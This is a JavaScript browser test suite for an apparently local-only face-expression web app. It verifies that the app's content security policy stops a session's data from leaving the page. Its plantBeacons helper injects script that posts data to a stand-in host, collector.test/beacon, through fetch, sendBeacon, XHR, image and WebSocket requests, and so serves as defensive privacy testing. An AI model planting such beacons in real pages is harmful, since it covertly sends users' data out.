// Nothing leaves the page: every request of a session is one of the page's own files, and a planted one is caught.

import assert from "node:assert/strict";
import { cpSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { choose, downloaded, fixture, launchBrowser, openAdjust, statusMatching } from "./page.mjs";
import { drawSideBySide, startBrowserSeeing } from "./pictures.mjs";

const SIZE = { width: 320, height: 240 };
const painter = await launchBrowser();
const scene = await drawSideBySide(painter, ["astronaut.png"], SIZE);
await painter.close();
const { open, requests, strangers, url } = await startBrowserSeeing([scene], { ...SIZE, framesEach: 10 });

const folder = mkdtempSync(join(tmpdir(), "countenance-"));
after(() => rmSync(folder, { recursive: true, force: true }));
for (const name of ["astronaut.png", "grace_hopper.png"]) cpSync(fixture(name), join(folder, name));

const BEACON = "http://collector.test/beacon";

/** Every way a script has to reach another host without leaving the page. */
async function plantBeacons(scope) {
  await scope.evaluate(async (address) => {
    const attempts = [fetch(address, { method: "POST", body: "pixels", mode: "no-cors" })];
    if (globalThis.navigator.sendBeacon) navigator.sendBeacon(address, "pixels");
    if (globalThis.XMLHttpRequest) {
      attempts.push(
        new Promise((resolve) => {
          const request = new XMLHttpRequest();
          request.onloadend = resolve;
          request.open("POST", address);
          request.send("pixels");
        }),
      );
    }
    if (globalThis.Image) {
      attempts.push(
        new Promise((resolve) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = resolve;
          image.src = address;
        }),
      );
    }
    attempts.push(
      new Promise((resolve) => {
        try {
          const socket = new WebSocket(address.replace("http", "ws"));
          socket.onclose = resolve;
          socket.onerror = resolve;
        } catch {
          resolve();
        }
      }),
    );
    await Promise.allSettled(attempts);
  }, BEACON);
}

async function readPictureAndCamera(page) {
  await choose(page, fixture("astronaut.png"));
  await statusMatching(page, /1 face/);
  await page.getByRole("button", { name: "Use the camera" }).click();
  await page.getByTestId("face").waitFor();
  await page.getByTestId("camera-stop").click();
  await statusMatching(page, /camera is off/);
}

/** A whole session: a picture, a folder, a video, the camera, every export, eight expressions, a calibration. */
async function useEverything(page) {
  await choose(page, fixture("astronaut.png"));
  await statusMatching(page, /1 face/);
  await page.getByRole("button", { name: "Why?" }).click();
  await page.locator(".explanation").waitFor();
  await page.getByTestId("folder-input").setInputFiles(folder);
  await page.locator(".batch .count").filter({ hasText: "2 pictures read" }).waitFor();
  await downloaded(page, "batch-csv");
  await openAdjust(page);
  await page.getByLabel("Tell apart").selectOption("8");
  await choose(page, fixture("faces.webm"));
  await statusMatching(page, /frames read/);
  await page.getByRole("button", { name: "Use the camera" }).click();
  await statusMatching(page, /1 face: \w+\.$/); // as only the live view says it
  await page.getByText("Adjust to my face").click();
  await page.locator(".takes").getByRole("button", { name: "Happy" }).click();
  await page.locator(".calibration [role=status]").filter({ hasText: "Done" }).waitFor();
  await downloaded(page, "calibration-export");
  await downloaded(page, "snapshot");
  await page.getByTestId("camera-stop").click();
  await statusMatching(page, /camera is off/);
  await downloaded(page, "timeline-json");
}

test("a session asks for the page's own files and for nothing else", async () => {
  requests.length = 0;
  strangers.length = 0;
  const page = await open();
  await useEverything(page);
  assert.ok(requests.length > 5, "the log is alive");
  const odd = requests.filter(({ method, path, status }) => method !== "GET" || status !== 200 || path.includes("?"));
  assert.deepEqual(odd, []);
  assert.deepEqual(strangers, []);
});

test("beacons planted in the page and in its worker are blocked by the page's policy", async () => {
  const page = await open();
  await readPictureAndCamera(page);
  strangers.length = 0;
  assert.equal(page.workers().length, 1);
  await plantBeacons(page);
  await plantBeacons(page.workers()[0]);
  assert.deepEqual(strangers, []);
});

test("the same beacons are caught where no policy stops them: the check can fail", async () => {
  const page = await open({ bypassCSP: true });
  await statusMatching(page, /Ready/);
  strangers.length = 0;
  await plantBeacons(page);
  assert.ok(
    strangers.some((line) => line.startsWith("POST /beacon")),
    `heard ${strangers}`,
  );
});

test("the privacy panel shows policy, imports and a count of requests that is alive", async () => {
  const page = await open();
  await useEverything(page);
  await page.getByRole("button", { name: "Nothing leaves this page" }).click();
  const count = page.locator("[data-count=requests]");
  assert.equal(await count.textContent(), "0 requests since the page was loaded.");
  assert.ok((await page.locator(".imports li").count()) > 5);
  assert.ok((await page.locator(".policy li").allTextContents()).includes("default-src 'none'"));
  await page.evaluate(() => fetch("icon.svg?planted"));
  await page.locator("[data-count=requests][data-value='1']").waitFor();
  await page.keyboard.press("Escape");
  assert.equal(await count.isVisible(), false);
});

test("with the network off, everything still works", async () => {
  const page = await open();
  await statusMatching(page, /Ready/);
  await page.context().setOffline(true);
  await readPictureAndCamera(page);
  await page.getByRole("button", { name: "Nothing leaves this page" }).click();
  assert.match(await page.locator("[data-count=connection]").textContent(), /^You are offline/);
});

test("a worker that is not made from a blob is not bound by the policy, which is why the page makes one from a blob", async () => {
  const page = await open({
    prepare: (unopened) =>
      unopened.context().route(
        (address) => address.href === url,
        async (route) => {
          const response = await route.fetch();
          const body = (await response.text()).replace("require-trusted-types-for 'script'; ", "");
          await route.fulfill({ response, body });
        },
      ),
  });
  await statusMatching(page, /Ready/);
  strangers.length = 0;
  const loose = page.waitForEvent("worker");
  await page.evaluate(() => {
    globalThis.loose = new Worker("lib/worker.js", { type: "module" });
  });
  await plantBeacons(await loose);
  assert.ok(
    strangers.some((line) => line.startsWith("POST /beacon")),
    `heard ${strangers}`,
  );
});
